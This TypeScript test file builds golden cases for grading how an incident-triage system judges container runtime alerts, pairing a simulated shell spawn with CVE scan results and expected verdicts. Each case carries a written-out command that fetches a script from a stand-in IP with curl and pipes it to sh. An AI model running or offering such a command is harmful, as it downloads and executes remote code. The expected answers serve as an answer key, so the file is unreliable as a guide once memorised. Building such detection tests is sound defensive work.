import type { GoldenCase, ProcessSpec, VulnerabilitySpec } from '../case.ts';
import { LOG4SHELL } from './compute.ts';

const RUNTIME = 'test/fixtures/prisma-cloud-compute/push/container-cryptominer.default-template.json';
const POD = 'prod-eks/payments/checkout-6d9f7c5b8d-x2x9q';
const RCE = 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H';

interface WayIn {
  readonly id: string;
  readonly title: string;
  readonly service: readonly [path: string, line: string];
  readonly rule?: string;
  readonly vulnerabilities: readonly VulnerabilitySpec[];
  readonly knowledge?: GoldenCase['context']['knowledge'];
  readonly cves: GoldenCase['expected']['cves'];
}

/** A shell below a service that downloads and runs a script, in an image with the given flaws: which was the way in? */
function wayIn({ id, title, service: [path, line], rule, vulnerabilities, knowledge, cves = [] }: WayIn): GoldenCase {
  const service: ProcessSpec = [1, undefined, path, line, -7200];
  const command = 'sh -c curl -s http://203.0.113.20/d.sh | sh';
  return {
    id,
    title,
    source: 'prisma-cloud-compute',
    readBack: 'confirmed',
    alerts: [
      {
        file: RUNTIME,
        change: {
          category: 'unexpectedProcess',
          message: `/bin/sh launched by ${path} but is not found in the runtime model. Full command: ${command}`,
          command,
          startupProcess: path,
          ...(rule === undefined ? {} : { rule }),
        },
      },
    ],
    context: {
      processes: [service, [50, 1, '/bin/sh', command, 0], [51, 50, '/tmp/d', '/tmp/d', 4]],
      written: [['/tmp/d', 50, 3]],
      connections: [['203.0.113.20', 80]],
      container: { entryPoint: line, ports: [8080] },
      vulnerabilities,
      ...(knowledge === undefined ? {} : { knowledge }),
      pod: { service: 'LoadBalancer' },
    },
    expected: {
      verdict: 'malicious',
      acceptable: ['suspicious'],
      severity: cves.length > 0 ? ['critical', 'critical'] : ['medium', 'critical'],
      techniques: ['T1059.004', 'T1105', ...(cves.length > 0 ? ['T1190'] : [])],
      acceptableTechniques: ['T1059', 'T1190', 'T1071'],
      cves,
      must: [`kubernetes.quarantine-pod@${POD}`],
      may: ['advice.update-image@*'],
      spawned: { process: '/bin/sh', by: [path] },
    },
  };
}

const JAVA = ['/usr/bin/java', '/usr/bin/java -jar /app/checkout.jar'] as const;
const NODE = ['/usr/local/bin/node', 'node server.js'] as const;
const remote = { vector: RCE, cvss: 9.8, remote: true } as const;
const SPRING: VulnerabilitySpec = {
  cve: 'CVE-2022-22965',
  package: 'org.springframework:spring-beans',
  type: 'jar',
  version: '5.3.17',
  fixedIn: '5.3.18',
  ...remote,
};
const VM2: VulnerabilitySpec = {
  cve: 'CVE-2022-36067',
  package: 'vm2',
  type: 'nodejs',
  version: '3.9.9',
  fixedIn: '3.9.11',
  ...remote,
};

/** Both directions: flaws that explain what was seen, and flaws that are there and do not. */
export const WAYS_IN: readonly GoldenCase[] = [
  wayIn({
    id: 'way-in-spring',
    title: 'Spring4Shell in a Java service, known to CISA',
    service: JAVA,
    vulnerabilities: [SPRING],
    knowledge: [{ cve: SPRING.cve, kev: '2022-04-04', epss: 0.94 }],
    cves: [{ cve: SPRING.cve, relevance: 'likely_exploited' }],
  }),
  wayIn({
    id: 'way-in-vm2',
    title: 'a sandbox escape in a Node service that FIRST expects to be attacked',
    service: NODE,
    vulnerabilities: [VM2],
    knowledge: [{ cve: VM2.cve, epss: 0.81 }],
    cves: [{ cve: VM2.cve, relevance: 'likely_exploited' }],
  }),
  wayIn({
    id: 'way-in-redis',
    title: 'a Lua escape in Redis, used in the wild',
    service: ['/usr/bin/redis-server', 'redis-server *:6379'],
    vulnerabilities: [
      {
        cve: 'CVE-2022-0543',
        package: 'redis',
        type: 'package',
        version: '6.0.15',
        fixedIn: '6.0.16',
        wild: true,
        ...remote,
        cvss: 10,
      },
    ],
    cves: [{ cve: 'CVE-2022-0543', relevance: 'likely_exploited' }],
  }),
  wayIn({
    id: 'way-in-named',
    title: 'the rule of the alert names Log4Shell',
    service: JAVA,
    rule: 'block CVE-2021-44228 exploitation',
    vulnerabilities: [LOG4SHELL],
    cves: [{ cve: 'CVE-2021-44228', relevance: 'exploited' }],
  }),
  wayIn({
    id: 'way-in-two-flaws',
    title: 'of two flaws of a Java service one runs code and one only stops it',
    service: JAVA,
    vulnerabilities: [
      LOG4SHELL,
      {
        cve: 'CVE-2023-44487',
        package: 'tomcat-embed-core',
        type: 'jar',
        version: '9.0.80',
        cvss: 7.5,
        vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H',
        wild: true,
        remote: true,
      },
    ],
    cves: [{ cve: 'CVE-2021-44228', relevance: 'likely_exploited' }],
  }),
  wayIn({
    id: 'way-in-other-runtime',
    title: 'a Java flaw lies in an image where only Node runs',
    service: NODE,
    vulnerabilities: [LOG4SHELL],
    cves: [],
  }),
  wayIn({
    id: 'way-in-unattacked-flaw',
    title: 'a flaw of the service nobody is known to attack',
    service: JAVA,
    vulnerabilities: [SPRING],
    knowledge: [{ cve: SPRING.cve, epss: 0.01 }],
    cves: [],
  }),
  wayIn({
    id: 'way-in-fixed',
    title: 'the scan names the version that holds the fix',
    service: JAVA,
    vulnerabilities: [{ ...LOG4SHELL, version: '2.15.0' }],
    cves: [],
  }),
];
